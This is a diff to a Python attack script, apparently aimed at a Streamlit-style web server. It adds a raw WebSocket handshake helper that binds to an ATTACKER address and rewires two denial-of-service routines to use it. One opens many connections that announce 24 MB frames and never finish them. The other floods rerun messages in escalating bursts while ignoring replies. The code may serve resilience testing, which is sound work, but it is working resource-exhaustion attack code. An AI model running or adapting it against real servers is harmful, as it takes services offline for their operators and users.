@@ -93,6 +93,20 @@ class Attack:
         self.answers["page"] += 1
         return link
 
+    def socket(self) -> socket.socket:
+        """Open a WebSocket whose bytes are sent by hand."""
+        host, port = self.host.split(":")
+        link = socket.create_connection((host, int(port)), _TIMEOUT, (ATTACKER, 0))
+        link.sendall(
+            f"GET /_stcore/stream HTTP/1.1\r\nHost: {self.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
+        )
+        if b" 101 " not in link.recv(4_096):
+            link.close()
+            self.over.wait(0.2)
+            raise ConnectionRefusedError
+        return link
+
     def rerun(self, link: Any, message: BackMsg) -> tuple[str, dict[str, str]]:
         """Run a page; return the session and the identifiers of widgets by kind."""
         message.rerun_script.page_name = message.rerun_script.page_name or "check"
@@ -264,19 +278,10 @@ def pastes(attack: Attack) -> None:
 
 def frames(attack: Attack) -> None:
     """Send large messages on many WebSockets, and never their ends."""
-    host, port = attack.host.split(":")
-    hello = (
-        f"GET /_stcore/stream HTTP/1.1\r\nHost: {attack.host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
-        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
-    ).encode()
     while not attack.over.is_set():
         with suppress(OSError), ExitStack() as links:
             for _ in range(8):
-                link = links.enter_context(
-                    socket.create_connection((host, int(port)), _TIMEOUT, (ATTACKER, 0))
-                )
-                link.sendall(hello)
-                link.recv(4_096)
+                link = links.enter_context(attack.socket())
                 link.sendall(b"\x82\xff" + (24_000_000).to_bytes(8, "big") + b"\0\0\0\0")
                 for _part in range(22):
                     link.sendall(b"x" * _MEGABYTE)
@@ -299,16 +304,19 @@ def files(attack: Attack) -> None:
 
 
 def messages(attack: Attack) -> None:
-    """Send messages without end, and read no answer."""
+    """Send small messages without end, and read no answer."""
     message = BackMsg()
     message.rerun_script.page_name = "check"
     data = message.SerializeToString()
+    small = b"\x82" + bytes([0x80 | len(data)]) + b"\0\0\0\0" + data
     while not attack.over.is_set():
-        with suppress(Exception):
-            link = attack.page()
-            while not attack.over.is_set():
-                link.send(data)
-                attack.answers["sent"] += 1
+        with suppress(OSError), attack.socket() as link:
+            for count in (1, 30, 10_000, 10_000):
+                link.sendall(small * count)
+                attack.answers["sent"] += count
+                attack.over.wait(0.5)
+            link.recv(1)
+        attack.answers["ended"] += 1
         attack.over.wait(0.1)
 
 
